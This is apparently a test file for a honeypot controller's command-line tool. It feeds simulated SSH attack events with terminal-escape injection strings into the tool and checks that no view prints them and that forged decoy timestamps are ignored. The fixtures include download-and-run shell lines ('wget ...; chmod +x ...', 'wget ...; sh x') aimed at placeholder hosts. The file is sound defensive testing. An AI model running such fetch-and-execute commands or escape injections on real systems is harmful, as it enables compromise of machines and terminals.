import { DatabaseSync } from 'node:sqlite'
import t from 'tap'
import { newId } from '../../shared/ids.ts'
import { command, controllerWorld } from '../faults/world.ts'

// A process for each view.
t.setTimeout(120_000)

const decoy = newId()
const persona = newId()
const attacker = '203.0.113.66'
/** Clear the screen, set the title, answer back, an 8-bit CSI and OSC, backspaces, right-to-left, NUL, a lone surrogate. */
const nasty =
  '\u001b[2J\u001b]0;owned\u0007\u001bP$q\u009b31m\u009d0;x\u009c\b\b\u202e\u2066\u0000\r\u007f\ud800\u200b\n'
const event = (kind: string, more: object = {}) => ({
  type: 'event',
  at: new Date().toISOString(),
  decoy,
  persona,
  personaVersion: 1,
  revision: 1,
  service: `ss\u001b[1mh`,
  kind,
  session: `s\u001b[2J`,
  src: { ip: attacker, port: 40_000 },
  dst: { ip: '198.18.0.20', port: 22 },
  source: `cowrie${nasty}`,
  ...more,
})

/** Every control character but a newline, and what reorders or hides text. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point
const forbidden = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/

t.test('whatever an attacker or a rogue agent wrote, no command prints a control character of theirs', async (t) => {
  const world = await controllerWorld(t)
  const agent = await world.newAgent('a')
  const hello = {
    at: new Date().toISOString(),
    agent: agent.agent,
    version: `1${nasty.slice(0, 5)}`,
    roles: ['decoys'],
    hostname: `h${nasty}`,
    planRevision: 0,
    blocksRevision: 0,
    streams: {},
  }
  agent.client.publish(`marshlight/v1/${agent.agent}/hello`, JSON.stringify(hello), { qos: 1 })
  const strange = { [`key${nasty}`]: nasty, data: { [nasty.slice(0, 9)]: nasty } }
  const events = agent.send('events', [
    event('session.open'),
    event('client.version', { clientVersion: `SSH-2.0-${nasty}`, hassh: nasty }),
    event('client.kex', { hassh: `a${nasty}` }),
    event('login.failed', { username: nasty, password: nasty }),
    event('login.success', { username: `root${nasty}`, password: nasty }),
    event('command', { command: `wget http://x/${nasty}; chmod +x ${nasty}; uname -a`, ...strange }),
    event('command.unknown', { command: `${nasty}crontab -e` }),
    event('file.download', { url: `http://x/${nasty}`, sha256: 'a'.repeat(64), size: 5, data: { filename: nasty } }),
    event('forward.request', { data: { message: nasty } }),
    event('session.close', { durationMs: 1 }),
    `{"type":"event","no":"${'\\u001b'}[2J"}`,
  ])
  const states = agent.send('state', [
    { type: 'notice', at: new Date().toISOString(), level: 'error', code: 'X\u001b[2J', message: nasty, data: strange },
    {
      type: 'document',
      at: new Date().toISOString(),
      document: 'plan',
      revision: 1,
      outcome: 'rejected',
      reason: nasty,
    },
    {
      type: 'decoy',
      at: new Date().toISOString(),
      decoy,
      revision: 1,
      phase: 'rejected',
      attempts: 9,
      restarts: 0,
      reason: nasty,
    },
  ])
  await agent.committed('events', events)
  await agent.committed('state', states)
  // What a start works up is all that was committed.
  await world.victim.end()
  await world.started()

  const { items } = await world.api.get<{ items: { session: string; id?: number }[] }>('/v1/sessions')
  const session = items[0]?.session ?? ''
  t.ok(session, 'the session is there')
  const { items: alerts } = await world.api.get<{ items: { id: string }[] }>('/v1/alerts')
  const db = new DatabaseSync(world.database, { readOnly: true })
  const positions = (db.prepare('SELECT pos FROM records').all() as { pos: number }[]).map(({ pos }) => String(pos))
  const letters = (db.prepare('SELECT id FROM dead_letters').all() as { id: number }[]).map(({ id }) => String(id))
  db.close()
  t.equal(letters.length, 1, 'only the line that fits no schema could not be used')

  const views = [
    ['sessions', 'ls'],
    ['sessions', 'show', session],
    ['sessions', 'show', session, '--json'],
    ['sessions', 'files'],
    ['sources', 'ls'],
    ['sources', 'show', attacker],
    ['sources', 'show', attacker, '--json'],
    ['blocks', 'ls'],
    ['alerts', 'ls'],
    ['alerts', 'ls', '--json'],
    ...alerts.slice(0, 3).map(({ id }) => ['alerts', 'show', id]),
    ['agents', 'ls'],
    ['agents', 'show', agent.agent],
    ['agents', 'show', agent.agent, '--json'],
    ['decoys', 'ls'],
    ['segments', 'ls'],
    ['events', 'ls'],
    ['events', 'ls', '--json'],
    ...positions.map((pos) => ['events', 'show', pos]),
    ['events', 'dead'],
    ...letters.map((id) => ['events', 'dead', id]),
  ]
  const look = async (view: string[]) => {
    const { code, out, err } = await command('marshlight', '--data', world.dataDir, ...view)
    const name = view.map((word) => JSON.stringify(word)).join(' ')
    const found = forbidden.exec(out + err)
    const around = JSON.stringify((out + err).slice(Math.max(0, (found?.index ?? 0) - 30)).slice(0, 60))
    t.equal(code, 0, `${name} does its work`)
    t.notOk(found, `${name} prints nothing harmful: ${around}`)
    if (view.includes('--json')) t.doesNotThrow(() => JSON.parse(out), `${name} is JSON`)
  }
  while (views.length > 0) await Promise.all(views.splice(0, 4).map(look))
  const wrong = await command('marshlight', '--data', world.dataDir, 'sessions', 'show', `no${'\u001b'}[2J`)
  t.match(wrong, { code: 1 })
  t.notOk(forbidden.test(wrong.err), 'nor in an error')
  t.strictSame(world.ended, [])
})

t.test('a decoy’s clock that is far off changes no time of ours', async (t) => {
  const world = await controllerWorld(t)
  const agent = await world.newAgent('a')
  const began = new Date().toISOString()
  const times = ['1970-01-01T00:00:00.000Z', '2100-01-01T00:00:00.000Z', '9999-12-31T23:59:59.999Z']
  const kinds = ['session.open', 'login.failed', 'login.success', 'command']
  const plain = { service: 'cowrie', source: 'cowrie', username: 'root', command: 'wget http://198.18.0.9/x; sh x' }
  const records = times.flatMap((at, i) =>
    kinds.map((kind) => event(kind, { ...plain, at, session: `s${i}`, src: { ip: `203.0.113.${i + 1}` } })),
  )
  const states = agent.send(
    'state',
    times.map((at) => ({ type: 'notice', at, level: 'error', code: 'X', message: 'x' })),
  )
  await agent.committed('events', agent.send('events', records))
  await agent.committed('state', states)
  await world.victim.end()
  await world.started()

  type Item = Record<string, string | number | null>
  const all = async (path: string) => (await world.api.get<{ items: Item[] }>(path)).items
  const now = new Date().toISOString()
  const ours = (what: string, value: unknown) =>
    t.ok(typeof value === 'string' && value >= began && value <= now, `${what} is of now: ${value}`)
  const events = await all('/v1/events?limit=100')
  t.equal(events.length, records.length + times.length, 'all are kept')
  for (const { receivedAt } of events) ours('when it was received', receivedAt)
  const sources = await all('/v1/sources')
  t.equal(sources.length, times.length)
  for (const source of sources) {
    for (const field of ['first_seen', 'last_seen']) ours(`${field} of ${source.ip}`, source[field])
    t.ok(Number(source.score) > 0, `${source.ip} has its risk`)
  }
  const alerts = await all('/v1/alerts')
  t.ok(alerts.length >= times.length, 'each is told')
  // `event_at` is what the decoy said, and is kept as that.
  for (const { event_at: _, ...alert } of alerts)
    for (const [field, value] of Object.entries(alert))
      if (/_at$/.test(field) && value !== null) ours(`${field} of an alert`, value)
  for (const block of await all('/v1/blocks'))
    for (const [field, value] of Object.entries(block))
      if (/until|expires/.test(field) && typeof value === 'string')
        t.ok(Date.parse(value) < Date.now() + 7 * 86_400_000, `${field} of a block: ${value}`)
  t.strictSame(world.ended, [])
})
